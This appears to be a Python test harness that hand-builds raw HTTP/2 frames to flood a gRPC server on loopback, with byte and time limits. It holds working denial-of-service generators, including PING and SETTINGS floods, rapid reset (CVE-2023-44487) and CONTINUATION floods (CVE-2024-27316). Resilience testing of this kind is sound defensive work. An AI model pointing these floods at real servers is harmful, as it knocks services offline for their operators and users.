"""What strangers were seen to do to a port for gRPC, on loopback alone, bounded in bytes and count.

HTTP/2 by hand: a head is literals without Huffman's code (RFC 7541, 6.2.2).
"""

from __future__ import annotations

import asyncio
import struct
from collections.abc import Callable, Iterator
from contextlib import suppress

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9


def frame(kind: int, flags: int, number: int, payload: bytes = b"") -> bytes:
    """RFC 9113, 4.1."""
    return len(payload).to_bytes(3, "big") + struct.pack(">BBL", kind, flags, number) + payload


def _text(data: bytes) -> bytes:
    if len(data) < 127:
        return bytes((len(data),)) + data
    left, found = len(data) - 127, bytearray((127,))
    while left >= 128:
        found.append(left & 127 | 128)
        left >>= 7
    return bytes(found) + bytes((left,)) + data


def head(path: str, *more: tuple[bytes, bytes]) -> bytes:
    """The head of a call."""
    fields = [
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", path.encode()),
        (b":authority", b"localhost"),
        (b"content-type", b"application/grpc"),
        (b"te", b"trailers"),
        *more,
    ]
    return b"".join(b"\0" + _text(name) + _text(value) for name, value in fields)


BEGUN = PREFACE + frame(SETTINGS, 0, 0)
Flood = Callable[[str], Iterator[bytes]]


def pings(path: str) -> Iterator[bytes]:
    """Are you there, are you there, …"""
    yield BEGUN
    while True:
        yield frame(PING, 0, 0, b"are you?") * 3800


def empty_data(path: str) -> Iterator[bytes]:
    """A call whose message never begins."""
    yield BEGUN + frame(HEADERS, 4, 1, head(path))
    while True:
        yield frame(DATA, 0, 1) * 7000


def settings(path: str) -> Iterator[bytes]:
    """Settings that each want an answer."""
    yield BEGUN
    while True:
        yield frame(SETTINGS, 0, 0, struct.pack(">HL", 4, 70_000)) * 4000


def resets(path: str) -> Iterator[bytes]:
    """Calls begun only to be given up (CVE-2023-44487)."""
    yield BEGUN
    block = head(path)
    for first in range(1, 2**30, 400):
        yield b"".join(
            frame(HEADERS, 4, number, block) + frame(RST, 0, number, b"\0\0\0\x08")
            for number in range(first, first + 400, 2)
        )


def endless_head(path: str) -> Iterator[bytes]:
    """A head in pieces without end (CVE-2024-27316)."""
    yield BEGUN + frame(HEADERS, 0, 1, head(path))
    while True:
        yield frame(CONTINUATION, 0, 1, b"\0\x01x\x7f\x81\x1e" + b"y" * 4000) * 16


def endless_trailers(path: str) -> Iterator[bytes]:
    """A good call, and trailers that do not end."""
    yield BEGUN + frame(HEADERS, 4, 1, head(path)) + frame(DATA, 0, 1, bytes(5))
    yield frame(HEADERS, 1, 1, b"\0\x01x\x01y")
    while True:
        yield frame(CONTINUATION, 0, 1, b"\0\x01x\x7f\x81\x1e" + b"y" * 4000) * 16


def unfinished(path: str) -> Iterator[bytes]:
    """Many calls at once, all but the last byte of each message."""
    size = 1 << 20
    begun = struct.pack(">BL", 0, size)
    heads = b"".join(frame(HEADERS, 4, number, head(path)) for number in range(1, 256, 2))
    yield BEGUN + heads + b"".join(frame(DATA, 0, number, begun) for number in range(1, 256, 2))
    for _ in range((size - 1) // 16384):
        for number in range(1, 256, 2):
            yield frame(DATA, 0, number, bytes(16384))
    while True:
        yield frame(PING, 0, 0, b"are you?")


FLOODS: dict[str, Flood] = {
    found.__name__: found
    for found in (pings, empty_data, settings, resets, endless_head, endless_trailers)
}


async def send(
    port: int, parts: Iterator[bytes], most: int, seconds: float, rate: float = 6e6
) -> tuple[int, bool]:
    """So many bytes at so many a second; how many were taken, and whether we were cut off.

    What comes back is read and thrown away: who does not read is a lesser nuisance.
    """
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    loop = asyncio.get_running_loop()
    begun, sent, cut = loop.time(), 0, False

    async def read() -> None:
        with suppress(OSError):
            while await reader.read(1 << 16):
                pass

    reading = asyncio.create_task(read())
    try:
        async with asyncio.timeout(seconds):
            for part in parts:
                if sent >= most or reading.done():
                    break
                writer.write(part)
                await writer.drain()
                sent += len(part)
                await asyncio.sleep(max(0.0, begun + sent / rate - loop.time()))
    except (OSError, TimeoutError) as error:
        cut = not isinstance(error, TimeoutError)
    cut = cut or reading.done()
    reading.cancel()
    await asyncio.gather(reading, return_exceptions=True)
    writer.transport.abort()
    return sent, cut
